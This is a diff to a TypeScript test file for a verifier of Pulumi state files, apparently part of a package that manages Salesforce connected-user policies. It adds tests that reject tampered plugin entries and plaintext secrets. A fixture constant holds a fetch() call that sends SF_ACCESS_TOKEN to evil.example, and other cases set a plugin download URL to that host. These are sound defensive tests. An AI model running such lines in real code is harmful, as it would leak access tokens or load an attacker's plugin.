@@ -6,6 +6,7 @@ import { verifyState } from "../../src/state/verifyState.ts";
 const STACK = "urn:pulumi:acme::sanctioned::";
 const DYNAMIC = "pulumi-nodejs:dynamic/sanctioned:ConnectedUserPolicy";
 const PROVIDER = "pulumi:providers:pulumi-nodejs";
+const PLUGIN = "pulumi:providers:sanctioned";
 const SIGNATURE = "4dabf18193072939515e22adb298388d";
 const SECRET = { [SIGNATURE]: "1b47061264138c4ac30d75fd1eb44270", ciphertext: "v1:bqPF0cJL:Detwj0FG" };
 const EVIL = `${PROVIDER_TEXT}fetch("https://evil.example/?" + process.env.SF_ACCESS_TOKEN);`;
@@ -63,6 +64,16 @@ describe("a state that this package wrote", () => {
   it("passes where there is none yet", () => {
     for (const text of ['{"version":3,"deployment":{"manifest":{},"metadata":{}}}', '{"deployment":null}'])
       expect(parseState(text, "stack.json").resources).toEqual([]);
+  });
+
+  it("passes with the resource of the plugin, and its providers with their secrets encrypted", () => {
+    const properties = { policyFile: "policy/acme.yaml", revocations: {} };
+    const added = [
+      resource(PLUGIN, { inputs: { version: "0.1.0", instanceUrl: "https://acme.my.salesforce.com" } }),
+      resource(PLUGIN, { inputs: { accessToken: SECRET } }),
+      resource("sanctioned:index:ConnectedUserPolicy", { inputs: properties, outputs: properties }),
+    ];
+    expect(codes(state(added))).toEqual([]);
   });
 
   it("passes with components of any type, which no plugin is started for", () => {
@@ -128,6 +139,22 @@ describe("code that would run", () => {
       resource(PROVIDER, { inputs: { pluginDownloadURL: "https://evil.example" } }),
     ],
     [
+      "where this package's plugin comes from",
+      ["state-plugin-named"],
+      resource(PLUGIN, { inputs: { pluginDownloadURL: "https://evil.example" } }),
+    ],
+    [
+      "a plugin that is another under its name",
+      ["state-plugin-named"],
+      resource(PLUGIN, { inputs: { __internal: { name: "evil" } } }),
+    ],
+    [
+      "code in the resource of the plugin",
+      ["state-foreign-code"],
+      resource("sanctioned:index:ConnectedUserPolicy", { outputs: { __provider: EVIL } }),
+    ],
+    ["another resource in the plugin's name", ["state-foreign-type"], resource("sanctioned:index:Command")],
+    [
       "the variables that a plugin finds",
       ["state-plugin-named"],
       resource(PROVIDER, { outputs: { __internal: { envVarMappings: { A: "NODE_OPTIONS" } } } }),
@@ -172,6 +199,12 @@ describe("a secret in the clear", () => {
     ["a client secret that was set without --secret", { inputs: { "sanctioned:clientSecret": "s3cr3t" } }],
   ])("is found: %s", (_, more) => {
     expect(codes(state([resource(PROVIDER, { inputs: {}, ...more })]))).toContain("state-secret-plain");
+  });
+
+  it("is found: one that a provider of the plugin was given", () => {
+    expect(codes(state([resource(PLUGIN, { inputs: { clientSecret: "s3cr3t" } })]))).toEqual([
+      "state-secret-plain",
+    ]);
   });
 
   it("is found beside the resources", () => {
